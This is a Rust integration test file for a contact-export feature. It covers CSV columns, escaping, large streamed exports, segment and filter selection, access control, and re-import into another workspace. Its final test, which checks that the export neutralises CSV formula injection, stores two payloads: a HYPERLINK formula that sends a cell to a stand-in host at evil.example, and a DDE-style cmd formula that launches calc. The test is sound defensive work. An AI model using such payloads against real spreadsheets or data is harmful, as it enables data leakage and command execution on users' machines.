//! Contact export: columns, escaping, streaming over several chunks, selection, access.

use serde_json::{Value, json};

use crate::helpers::{Role, TestApp, error_code};

/// Asks for an export URL, downloads it, and returns (status, header, rows).
async fn export(app: &TestApp, token: &str, variables: Value) -> (u16, Vec<String>, Vec<Vec<String>>) {
    let body = app
        .gql_as(
            Some(token),
            "query($segmentId: ID, $filter: SegmentFilterInput, $search: String, $tag: String) { \
             exportContacts(segmentId: $segmentId, filter: $filter, search: $search, tag: $tag) { url contactCount } }",
            variables,
        )
        .await;
    assert!(body.get("errors").is_none(), "{body:#}");
    let url = body["data"]["exportContacts"]["url"].as_str().unwrap().to_owned();
    let count = body["data"]["exportContacts"]["contactCount"].as_u64().unwrap();
    let response = app.client.get(format!("{}{url}", app.address)).bearer_auth(token).send().await.unwrap();
    let status = response.status().as_u16();
    assert_eq!(response.headers()["content-type"], "text/csv; charset=utf-8");
    let text = response.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(rows.len() as u64, count, "contactCount matches the rows");
    (status, header, rows)
}

fn column(header: &[String], rows: &[Vec<String>], name: &str) -> Vec<String> {
    let index = header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name} in {header:?}"));
    rows.iter().map(|row| row[index].clone()).collect()
}

#[tokio::test]
async fn an_export_has_every_field_tags_custom_fields_and_identifiers_escaped() {
    let app = TestApp::spawn().await;
    app.ok(
        "mutation { createContactField(input: {key: \"points\", name: \"Points\", type: NUMBER}) { id } }",
        json!({}),
    )
    .await;
    app.ok("mutation { createContactField(input: {key: \"notes\", name: \"Notes\", type: TEXT}) { id } }", json!({}))
        .await;
    let bot = app
        .channel(json!({ "name": "Bot", "kind": "TELEGRAM", "credentials": { "botToken": "1:a", "secretToken": "s" } }))
        .await;
    let ana = app
        .contact(json!({ "firstName": "Ana, \"la jefa\"", "lastName": "Pérez", "phone": "+593991234567", "email": "ana@x.io",
            "language": "es", "tags": ["vip", "clientes"], "customFields": { "points": 12.5, "notes": "line one\nline two" },
            "identifiers": [{ "channelId": bot, "identifier": "777" }] }))
        .await;
    app.contact(json!({ "firstName": "Bea" })).await;
    let (status, header, rows) = export(&app, &app.token, json!({})).await;
    assert_eq!(status, 200);
    let expected: Vec<String> = [
        "Contact ID",
        "First name",
        "Last name",
        "Phone",
        "Email",
        "Language",
        "Tags",
        "Created at",
        "Updated at",
        "Last interaction at",
        "Last interacted channel ID",
        "notes",
        "points",
    ]
    .iter()
    .map(|s| s.to_string())
    .chain([format!("Channel {bot} (Bot)"), "Channel 1 (Sandbox (simulated, sends nothing))".to_owned()])
    .collect();
    assert_eq!(header, expected);
    let first = &rows[0];
    assert_eq!(first[0], ana, "oldest first");
    assert_eq!(column(&header, &rows, "First name")[0], "Ana, \"la jefa\"");
    assert_eq!(column(&header, &rows, "Phone")[0], "+593991234567");
    assert_eq!(column(&header, &rows, "Tags")[0], "clientes; vip");
    assert_eq!(column(&header, &rows, "points")[0], "12.5");
    assert_eq!(column(&header, &rows, "notes")[0], "line one\nline two");
    assert_eq!(column(&header, &rows, &format!("Channel {bot} (Bot)"))[0], "777");
    assert!(column(&header, &rows, "Created at")[0].starts_with("20"));
    assert_eq!(column(&header, &rows, "First name")[1], "Bea");
    assert_eq!(column(&header, &rows, "Tags")[1], "");
}

#[tokio::test]
async fn a_large_export_streams_every_contact_once_in_order() {
    let app = TestApp::spawn().await;
    let mut csv = String::from("First name,Email,Tags\n");
    for i in 0..12_345 {
        csv.push_str(&format!("P{i},p{i}@x.io,{}\n", if i % 2 == 0 { "even" } else { "odd" }));
    }
    let body = app
        .gql(
            "mutation($csv: String) { importContacts(csv: $csv, mode: ADD_ONLY, identifier: EMAIL) { created } }",
            json!({ "csv": csv }),
        )
        .await;
    assert_eq!(body["data"]["importContacts"]["created"], 12_345, "{body:#}");
    let (_, header, rows) = export(&app, &app.token, json!({})).await;
    assert_eq!(rows.len(), 12_345);
    let ids: Vec<i64> = column(&header, &rows, "Contact ID").iter().map(|id| id.parse().unwrap()).collect();
    assert!(ids.windows(2).all(|w| w[0] < w[1]), "ascending, no repeats");
    let emails = column(&header, &rows, "Email");
    assert_eq!(emails[0], "p0@x.io");
    assert_eq!(emails[12_344], "p12344@x.io");
    // Narrowed by a tag: half of them.
    let (_, header, odd) = export(&app, &app.token, json!({ "tag": "odd" })).await;
    assert_eq!(odd.len(), 6172);
    assert!(column(&header, &odd, "Tags").iter().all(|tags| tags == "odd"), "each row carries its own tags only");
}

#[tokio::test]
async fn an_export_imports_back_into_another_workspace() {
    let app = TestApp::spawn().await;
    app.ok("mutation { createContactField(input: {key: \"tier\", name: \"Tier\", type: TEXT}) { id } }", json!({}))
        .await;
    app.contact(json!({ "firstName": "Ana", "lastName": "Pérez", "phone": "+593991234567", "email": "ana@x.io", "tags": ["vip", "clientes"], "customFields": { "tier": "gold" } })).await;
    app.contact(json!({ "firstName": "Bea", "email": "bea@x.io", "language": "pt-BR" })).await;
    let url =
        app.ok("{ exportContacts { url } }", json!({})).await["exportContacts"]["url"].as_str().unwrap().to_owned();
    let csv = app
        .client
        .get(format!("{}{url}", app.address))
        .bearer_auth(&app.token)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();

    let (_, other) = app.other_workspace().await;
    app.gql_as(
        Some(&other),
        "mutation { createContactField(input: {key: \"tier\", name: \"Tier\", type: TEXT}) { id } }",
        json!({}),
    )
    .await;
    let body = app
        .gql_as(
            Some(&other),
            "mutation($csv: String) { importContacts(csv: $csv, mode: ADD_ONLY, identifier: EMAIL) { created rejected } }",
            json!({ "csv": csv }),
        )
        .await;
    assert_eq!(body["data"]["importContacts"], json!({ "created": 2, "rejected": 0 }), "{body:#}");
    let body = app
        .gql_as(
            Some(&other),
            "{ contacts(search: \"ana@x.io\") { nodes { firstName lastName phone tags { name } customFields } } }",
            json!({}),
        )
        .await;
    assert_eq!(
        body["data"]["contacts"]["nodes"][0],
        json!({ "firstName": "Ana", "lastName": "Pérez", "phone": "+593991234567", "tags": [{ "name": "clientes" }, { "name": "vip" }], "customFields": { "tier": "gold" } })
    );
}

#[tokio::test]
async fn an_export_selects_by_segment_or_filter() {
    let app = TestApp::spawn().await;
    app.contact(json!({ "firstName": "Ana", "tags": ["vip"] })).await;
    app.contact(json!({ "firstName": "Bea" })).await;
    let segment = app
        .ok("mutation { createSegment(input: {name: \"VIP\", filter: {condition: {field: TAGS, operator: HAS_ANY_OF, values: [\"vip\"]}}}) { id } }", json!({}))
        .await["createSegment"]["id"]
        .clone();
    let (_, header, rows) = export(&app, &app.token, json!({ "segmentId": segment })).await;
    assert_eq!(column(&header, &rows, "First name"), ["Ana"]);
    let filter = json!({ "condition": { "field": "FIRST_NAME", "operator": "IS", "value": "bea" } });
    let (_, header, rows) = export(&app, &app.token, json!({ "filter": filter })).await;
    assert_eq!(column(&header, &rows, "First name"), ["Bea"]);

    let body = app
        .gql(
            "query($s: ID, $f: SegmentFilterInput) { exportContacts(segmentId: $s, filter: $f) { url } }",
            json!({ "s": segment, "f": filter }),
        )
        .await;
    assert_eq!(error_code(&body), "BAD_USER_INPUT");
}

async fn download(app: &TestApp, query: &str, token: Option<String>) -> reqwest::Result<reqwest::Response> {
    let mut request = app.client.get(format!("{}/export/contacts.csv{query}", app.address));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    request.send().await
}

#[tokio::test]
async fn an_export_needs_a_manager_token_of_the_segment_s_workspace() {
    let app = TestApp::spawn().await;
    app.contact(json!({ "firstName": "Ana" })).await;
    assert_eq!(download(&app, "", None).await.unwrap().status(), 401);
    assert_eq!(download(&app, "", Some("pgn_forged".into())).await.unwrap().status(), 401);
    let agent = app.token_for(Role::Agent).await;
    assert_eq!(download(&app, "", Some(agent.clone())).await.unwrap().status(), 403);
    let body = app.gql_as(Some(&agent), "{ exportContacts { url } }", json!({})).await;
    assert_eq!(error_code(&body), "FORBIDDEN");

    let (_, other) = app.other_workspace().await;
    let theirs = app
        .gql_as(
            Some(&other),
            "mutation { createSegment(input: {name: \"Theirs\", filter: {all: []}}) { id } }",
            json!({}),
        )
        .await["data"]["createSegment"]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let response = download(&app, &format!("?segmentId={theirs}"), Some(app.token.clone())).await.unwrap();
    assert_eq!(response.status(), 404);
    let body: Value = response.json().await.unwrap();
    assert_eq!(error_code(&body), "NOT_FOUND");
    assert_eq!(download(&app, "?filter=%7Bnope", Some(app.token.clone())).await.unwrap().status(), 400);
    assert_eq!(download(&app, "?segmentId=abc", Some(app.token.clone())).await.unwrap().status(), 400);

    // Another workspace's export never contains my contacts.
    let (_, _, rows) = export(&app, &other, json!({})).await;
    assert!(rows.is_empty());
}

#[tokio::test]
async fn cells_a_spreadsheet_would_run_are_neutralised_and_import_back_unchanged() {
    let app = TestApp::spawn().await;
    app.ok("mutation { createContactField(input: {key: \"note\", name: \"Note\", type: TEXT}) { id } }", json!({}))
        .await;
    // OWASP "CSV Injection": cells starting with =, +, -, @ are formulas to a spreadsheet.
    let payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    app.contact(json!({ "firstName": payload, "lastName": "-2+3", "phone": "+593991234567", "email": "x@x.io",
        "customFields": { "note": "@SUM(1+1)*cmd|' /C calc'!A0" } }))
        .await;
    let (status, header, rows) = export(&app, &app.token, json!({})).await;
    assert_eq!(status, 200);
    let column = |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no {name}: {header:?}"));
    assert_eq!(rows[0][column("First name")], format!("'{payload}"));
    assert_eq!(rows[0][column("Last name")], "'-2+3");
    assert_eq!(rows[0][column("note")], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(rows[0][column("Phone")], "+593991234567", "a plain number is left as it is");

    // The export imports back with the values as they were stored.
    let url =
        app.ok("{ exportContacts { url } }", json!({})).await["exportContacts"]["url"].as_str().unwrap().to_owned();
    let csv = app.client.get(format!("{}{url}", app.address)).bearer_auth(&app.token).send().await.unwrap();
    let csv = csv.text().await.unwrap();
    let (_, other) = app.other_workspace().await;
    app.gql_as(
        Some(&other),
        "mutation { createContactField(input: {key: \"note\", name: \"Note\", type: TEXT}) { id } }",
        json!({}),
    )
    .await;
    let body = app
        .gql_as(
            Some(&other),
            "mutation($csv: String) { importContacts(csv: $csv, mode: ADD_ONLY, identifier: EMAIL) { created rejected } }",
            json!({ "csv": csv }),
        )
        .await;
    assert_eq!(body["data"]["importContacts"], json!({ "created": 1, "rejected": 0 }), "{body:#}");
    let body = app
        .gql_as(Some(&other), "{ contacts(first: 1) { nodes { firstName lastName phone customFields } } }", json!({}))
        .await;
    assert_eq!(
        body["data"]["contacts"]["nodes"][0],
        json!({ "firstName": payload, "lastName": "-2+3", "phone": "+593991234567",
                "customFields": { "note": "@SUM(1+1)*cmd|' /C calc'!A0" } })
    );
}
